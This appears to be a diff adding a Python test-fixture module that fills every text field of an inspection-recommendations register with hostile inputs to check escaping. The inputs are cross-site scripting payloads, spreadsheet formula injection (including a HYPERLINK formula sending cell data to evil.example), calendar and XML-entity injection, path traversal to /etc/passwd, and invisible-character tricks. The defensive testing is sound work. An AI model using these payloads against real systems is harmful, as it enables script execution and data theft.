@@ -1,0 +1,266 @@
+"""A register with every declared place filled: with hostile words, or with harmless ones of the same length.
+
+The places come from the model, so a new text field is filled by itself. A new field that is no text must be given a
+value below, and a test says so.
+"""
+
+import json
+from collections.abc import Callable, Iterator
+from types import UnionType
+from typing import Any, Union, get_args, get_origin, get_type_hints
+
+from pydantic import AfterValidator
+from register import model
+from register.folder import Kind
+from register.model import FACTS, HEADINGS, RESPONSE, Facts
+
+MARK = "window.__ran=1"
+"""What every payload would run, so that a browser can be asked whether it did."""
+
+HOSTILE_TEXTS = {
+    "an element": f"</title></style></textarea></script><script>{MARK}</script>",
+    "an attribute": f'" onmouseover="{MARK}" autofocus onfocus=\'{MARK}\' x=',
+    "a picture": f"<img src=x onerror={MARK}>",
+    "an SVG": f']]></text></svg><svg onload={MARK}><a xlink:href="javascript:{MARK}">',
+    "entities": f"&lt;script&gt;{MARK}&lt;/script&gt;&#60;img src=x onerror={MARK}&#62;",
+    "half a tag": f"<svg/onload={MARK}//<!--<script><![CDATA[<?xml",
+    "a link in Markdown": f"[a](javascript:{MARK}) ![b](x.png) <javascript:{MARK}>",
+    "a template": "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
+    "JSON in a page": f'\\u003cscript>\\"}}]</script><script>{MARK}//<!--<script>',
+    "a formula": "=cmd|' /C calc'!A0",
+    "a formula that begins with a plus": '+HYPERLINK("http://evil.example/?"&A1,"click")',
+    "a formula that begins with a minus": "-2+3+cmd|' /C calc'!A0",
+    "a formula that begins with an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a formula in full-width signs": "＝1+1",
+    "a formula in a cell of its own": 'a",=1+1,"',
+    "a property of a calendar": "a\\nATTACH:http://evil.example/;X=1,Y:\\,END:VEVENT\\r\\nBEGIN:VALARM",
+    "lines of a calendar": "a\r\nATTACH:http://evil.example/\r\nEND:VEVENT\r\n\tBEGIN:VALARM\n---\n=1+1",
+    "an entry of a feed": "</title></entry><entry><id>x</id></entry>]]><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc'>]>&y;",
+    "a path": "../../../../etc/passwd\\..\\..\\con.html?x#y",
+    "signs that combine": "Z\u0321\u0315a\u0338l\u0489go e\u0301 \ufb01 \ufdfa \u00bd \u0130 \u017f \u212a",
+}
+"""Texts that a field may hold. The checks let them pass, and every page and file must bear them."""
+
+HIDDEN_TEXTS = {
+    "a direction that turns": "safe\u202egnp.exe\u2066 <b>\u2069",
+    "signs of no width": "<\u200bscript>java\u200cscript\u2060:\ufeff",
+    "a line of another kind": f"a\u2028<script>{MARK}</script>\u2029b",
+    "tags": "a" + "".join(chr(0xE0000 + ord(letter)) for letter in "script"),
+    "control characters": f"a\x01<\x7fscript>{MARK}\x9b31m",
+    "a line break of a calendar": "a\x85ATTACH:x\x0bEND:VEVENT",
+    "the end of a text": "a\x00<script>",
+}
+"""Texts that the checks refuse, for the characters that nobody sees."""
+
+HOSTILE_ADDRESS = "https://example.org/'onmouseover='%22%3Cscript%3E&quot;&#34;&lt;`{{7*7}}\\..\\%0d%0aX:y;=1+1"
+"""A web address as hostile as one may be."""
+
+REFUSED_ADDRESSES = (
+    f"javascript:{MARK}",
+    f"JaVaScRiPt:{MARK}",
+    f"java\tscript:{MARK}",
+    f"\x01javascript:{MARK}",
+    f"&#106;avascript:{MARK}",
+    f"data:text/html,<script>{MARK}</script>",
+    f"vbscript:{MARK}",
+    "//evil.example/",
+    "file:///etc/passwd",
+    f'https://example.org/" onmouseover="{MARK}',
+)
+
+# What is no free text: words that name each other, days and numbers, so that the whole makes sense.
+_GIVEN: dict[str, dict[str, Any]] = {
+    "register.yml": {
+        "timezone": "Europe/London",
+        "due_soon_days": "30",
+        "response_days": "56",
+        "statuses": [
+            {"id": "red", "stage": "open", "colour": "red"},
+            {"id": "closed", "stage": "ended", "colour": "grey"},
+            {"id": "superseded", "stage": "ended", "colour": "grey"},
+        ],
+        "inspectorate_statuses": [{"id": "open"}],
+    },
+    "frameworks/peel.yml": {
+        "grades": [{"id": "good", "ranked": "true"}, {"id": "poor"}],
+        "pillars": [{"id": "legitimacy"}],
+        "questions": [{"id": "workforce", "pillar": "legitimacy", "graded": "true"}],
+        "comparable_with": ["older"],
+    },
+    "frameworks/older.yml": {
+        "grades": [{"id": "good"}],
+        "pillars": [],
+        "questions": [{"id": "custody"}],
+        "comparable_with": [],
+    },
+    "inspections/peel.md": {
+        "framework": "peel",
+        "fieldwork_ended": "2019-01-31",
+        "published": "2019-05-02",
+        "url": HOSTILE_ADDRESS,
+        "response_published": "2019-06-20",
+        "grades": [
+            {"question": "workforce", "grade": "poor", "judged": "2019", "previous": "good", "progress": "declined"},
+            {"pillar": "legitimacy", "grade": "poor"},
+        ],
+    },
+    "recommendations/cause.md": {
+        "type": "cause-of-concern",
+        "inspection": "peel",
+        "pillar": "legitimacy",
+        "question": "workforce",
+        "grade": "poor",
+        "status": "red",
+        "received": "2019-05-02",
+        "due": "2019-09-01",
+        "next": {"by": "2019-10-10"},
+        "inspectorate_status": "open",
+        "repeats": "older",
+        "formerly": ["cause-was"],
+        "publish": "true",
+        "links": [{"url": HOSTILE_ADDRESS}],
+        "history": [
+            {
+                "date": "2019-05-02",
+                "status": "red",
+                "due": "2019-08-01",
+                "inspectorate_status": "open",
+                "next": {"by": "2019-10-10"},
+            },
+            {"date": "2019-07-01", "due": "2019-09-01", "next": {"by": "2019-10-10"}},
+        ],
+        "corrections": [{"date": "2019-07-02"}],
+    },
+    "recommendations/child.md": {
+        "type": "recommendation",
+        "inspection": "peel",
+        "question": "workforce",
+        "grade": "poor",
+        "status": "red",
+        "due": "2020-09-01",
+        "next": {"by": "2019-10-10"},
+        "parent": "cause",
+        "links": [],
+        "formerly": [],
+        "history": [],
+        "corrections": [],
+    },
+    "recommendations/older.md": {
+        "type": "area-for-improvement",
+        "inspection": "peel",
+        "question": "workforce",
+        "grade": "poor",
+        "status": "superseded",
+        "superseded_by": "cause",
+        "received": "2019-05-02",
+        "closed": "2019-06-01",
+        "links": [],
+        "formerly": [],
+        "history": [{"date": "2019-05-02", "status": "red"}, {"date": "2019-06-01", "status": "superseded"}],
+        "corrections": [],
+    },
+    "meetings/2019-06-28.md": {
+        "as_at": "2019-06-20",
+        "previous": "2019-03-28",
+        "background_documents": [{"url": HOSTILE_ADDRESS}],
+    },
+}
+
+
+def harmless(text: str) -> str:
+    """A text of the same length and the same blanks that no program takes for anything else."""
+    return "".join(sign if sign.isspace() else "x" for sign in text)
+
+
+def register_of(text: str, words: str | None = None) -> dict[str, str]:
+    """The files of a register with the text in every field that takes one, and the words below every heading."""
+    return {path: written(path, fill(path, text), text if words is None else words) for path in _GIVEN}
+
+
+def kind_at(path: str) -> Kind:
+    """The kind of record at the path."""
+    return next(kind for kind in Kind if path.startswith(kind))
+
+
+def fill(path: str, text: str) -> dict[str, Any]:
+    """The facts of the record at the path, with the text in every field that takes one."""
+
+    def at(place: tuple[str | int, ...]) -> str:
+        numbers = [step for step in place if isinstance(step, int)]
+        return f"{text} {numbers[-1]}" if place[-1] == "label" else text  # labels differ from each other
+
+    return _filled(FACTS[kind_at(path)], _GIVEN[path], at, ())
+
+
+def written(path: str, facts: dict[str, Any], words: str) -> str:
+    """The file with these facts and, where its kind has a body, the words below every heading that it may have."""
+    front = _escaped(json.dumps(facts, ensure_ascii=False))  # JSON is YAML
+    if path.endswith(".yml"):
+        return front
+    titles = (*HEADINGS[kind_at(path)], *(["workforce"] if kind_at(path) is Kind.INSPECTION else []))
+    sections = [f"## {title}\n\n{words}\n" for title in titles]
+    sections = [
+        f"{section}\n### 2019-06-03\n\n{words}\n" if title == RESPONSE else section
+        for title, section in zip(titles, sections, strict=True)
+    ]
+    return f"---\n{front}\n---\n\n" + "\n".join(sections)
+
+
+def _escaped(text: str) -> str:
+    """Every sign that isn't ASCII as an escape, but those for which YAML and JSON have different ones."""
+    return "".join(sign if sign.isascii() or sign > "\uffff" else f"\\u{ord(sign):04x}" for sign in text)
+
+
+def is_text(declared: object) -> bool:
+    """Whether a declared type is that of free text."""
+    marks = getattr(declared, "__metadata__", ())
+    return any(isinstance(mark, AfterValidator) and mark.func is model._tidy for mark in marks)
+
+
+def is_address(declared: object) -> bool:
+    """Whether a declared type is that of a web address."""
+    return declared in (model.WebAddress, model.SecureAddress)
+
+
+def _filled(facts: type[Facts], given: dict[str, Any], at: Callable[..., str], path: tuple[str | int, ...]) -> Any:
+    return {
+        name: value
+        for name, declared in get_type_hints(facts, include_extras=True).items()
+        if name in facts.model_fields and (value := _value(declared, given.get(name), at, (*path, name))) is not None
+    }
+
+
+def _value(declared: Any, given: Any, at: Callable[..., str], path: tuple[str | int, ...]) -> Any:
+    if isinstance(declared, type) and issubclass(declared, Facts):
+        return _filled(declared, given or {}, at, path)
+    if get_origin(declared) is tuple:
+        items = [None] if given is None else given
+        return [_value(get_args(declared)[0], item, at, (*path, number)) for number, item in enumerate(items)]
+    if get_origin(declared) in (Union, UnionType):  # the other part is None
+        return _value(get_args(declared)[0], given, at, path)
+    return at(path) if given is None and is_text(declared) else given
+
+
+def places(facts: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
+    """The names on the way to every value in the facts; places in lists count as one."""
+    if isinstance(facts, dict):
+        for name, value in facts.items():
+            yield from places(value, (*path, name))
+    elif isinstance(facts, list):
+        for value in facts:
+            yield from places(value, path)
+    else:
+        yield path
+
+
+def declared_places(kind: Kind) -> dict[tuple[str, ...], object]:
+    """The type of every declared value of the kind, by the names on the way to it."""
+    return {
+        tuple(str(step) for step in path if not isinstance(step, int)): declared
+        for path, declared in model._declared(FACTS[kind])
+    }
+
+
+def filled_places(kind: Kind) -> set[tuple[str, ...]]:
+    """Where the register here has a value in some record of the kind."""
+    return {place for path in _GIVEN if kind_at(path) is kind for place in places(fill(path, "text"))}
